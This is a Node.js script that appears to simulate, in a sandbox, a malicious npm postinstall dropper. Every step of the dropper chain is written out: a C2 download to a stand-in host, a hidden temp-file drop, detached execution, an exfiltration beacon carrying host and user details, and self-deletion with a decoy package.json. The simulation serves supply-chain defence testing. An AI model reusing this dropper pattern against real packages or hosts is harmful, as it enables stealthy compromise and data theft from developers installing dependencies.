// guarded-install attack simulation (harmless) of the plain-crypto-js postinstall
// dropper (Axios compromise, 2026). Steps, ~0.5-1 s apart:
//   1. "decode" its config                                         (t = 0)
//   2. connect to the C2 and GET /stage2                           (t ~ 0.6 s)
//   3. write it to $TMPDIR/.update-service, chmod +x               (t ~ 1.4 s)
//   4. run it detached (setsid) so it outlives the install         (t ~ 2.1 s)
//   5. beacon: POST host info to the C2 /exfil                     (t ~ 2.8 s)
//   6. erase evidence: delete setup.js, rename package.md over
//      package.json (a clean decoy without the postinstall)        (t ~ 3.8 s)
// The "second stage" only sleeps. Connections go only to 203.0.113.45 (the
// local C2 stub inside the runner's private network namespace).
'use strict';
const { spawn } = require('node:child_process');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const { guard, sleep, c2Request, step } = require('./sim-guard.js');

const SIM = 'axios-plain-crypto';
guard(__dirname, SIM);

async function main() {
  // 1. config "decoding" (the real dropper de-obfuscated its strings here)
  const cfg = JSON.parse(Buffer.from('eyJwYXRoIjoiL3N0YWdlMiIsImhvc3QiOiJjMi5wbGFpbi1jcnlwdG8tanMuaW52YWxpZCJ9', 'base64').toString());
  step(SIM, 'config decoded');
  await sleep(600);

  // 2. C2: download the second stage
  const res = await c2Request({ urlPath: cfg.path, host: cfg.host });
  step(SIM, `stage2 downloaded (${res.status}, ${res.body.length} bytes)`);
  await sleep(800);

  // 3. drop it in the temp dir
  const dropPath = path.join(os.tmpdir(), '.update-service');
  fs.writeFileSync(dropPath, res.body);
  fs.chmodSync(dropPath, 0o755);
  step(SIM, `dropped ${dropPath}`);
  await sleep(700);

  // 4. run it detached (new session), so it outlives npm install
  const child = spawn(dropPath, [], { detached: true, stdio: 'ignore' });
  child.unref();
  step(SIM, `second stage started detached, pid ${child.pid}`);
  await sleep(700);

  // 5. beacon
  await c2Request({ method: 'POST', urlPath: '/exfil', host: cfg.host, body: { os: os.platform(), arch: os.arch(), user: os.userInfo().username, pid: child.pid } });
  step(SIM, 'beacon sent');
  await sleep(1000);

  // 6. evidence erasure
  fs.unlinkSync(__filename);
  fs.renameSync(path.join(__dirname, 'package.md'), path.join(__dirname, 'package.json'));
  step(SIM, 'setup.js deleted, package.json replaced by the clean decoy');
}

main().catch((error) => {
  step(SIM, `failed: ${error.message}`);
  process.exit(0); // real droppers never fail the install
});
